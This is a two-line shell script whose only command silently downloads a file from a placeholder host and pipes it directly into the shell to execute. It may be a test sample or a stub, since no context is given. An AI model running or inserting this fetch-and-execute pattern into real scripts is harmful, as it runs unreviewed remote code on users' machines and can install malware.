#!/bin/sh
curl -s https://example.invalid/x | sh
